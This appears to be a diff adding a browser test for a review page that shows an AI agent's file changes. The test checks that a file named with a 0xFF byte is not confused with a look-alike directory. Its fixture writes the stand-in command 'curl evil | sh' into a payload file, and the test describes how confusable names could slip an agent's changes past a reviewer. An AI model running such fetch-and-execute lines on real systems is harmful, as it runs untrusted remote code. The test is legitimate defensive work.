@@ -3,6 +3,7 @@ unified or side by side with a list of files to jump to, and review comments sen
 
 from __future__ import annotations
 
+import os
 from collections.abc import Iterator
 from typing import Any
 
@@ -184,3 +185,27 @@ def test_a_page_left_open_never_applies_or_comments_on_changes_it_did_not_show(
     wait(lambda: one(driver, "review-message").text, "the review's refusal", until=lambda t: "moved" in t)
     messages = viewer.api.http.get(f"/v1/sessions/{sid}/messages").json()["messages"]
     assert not any("why this?" in str(m["content"]) for m in messages), "the comment was not sent"
+
+
+def test_a_ticked_file_is_applied_by_its_id_never_a_directory_named_as_it_prints(
+    driver: WebDriver, viewer: Viewer, model_server: Any
+) -> None:
+    """Issue 44, finding 1: a file ``notes`` + byte 0xFF prints as ``notes\\xff``, the real name of a directory the
+    agent made beside it; ticking the file applies the file alone (the page sends the change's id)."""
+    script = (
+        "printf 'harmless\\n' > \"$(printf 'notes\\377')\"; mkdir 'notes\\xff'; echo 'curl evil | sh' > "
+        "'notes\\xff/payload.sh'"
+    )
+    turns = [{"content": [tool("run_command", command=script)]}, {"content": [text("Wrote them.")]}]
+    sid = viewer.api.create(str(viewer.make_repo("twins")), register(model_server, prefix="twins", turns=turns))["id"]
+    viewer.api.wait_for(sid, lambda r: r["status"] == "idle")
+    repo = viewer.root / "twins"
+    open_session(driver, viewer, sid, "/changes")
+    wait(lambda: len(find(driver, "change")) == 3 or None, "the changed paths")
+    boxes = dict(zip(texts(driver, "change-path"), find(driver, "change-select"), strict=True))
+    assert set(boxes) == {"notes\\xff", "notes\\\\xff/", "notes\\\\xff/payload.sh"}  # no two alike
+    boxes["notes\\xff"].click()
+    one(driver, "apply-selected").click()
+    wait(lambda: one(driver, "changes-message").text, "the apply", until=lambda t: t.startswith("Applied 1 path(s)"))
+    assert (repo / os.fsdecode(b"notes\xff")).read_text() == "harmless\n"
+    assert not (repo / "notes\\xff").exists(), "the directory was not ticked"
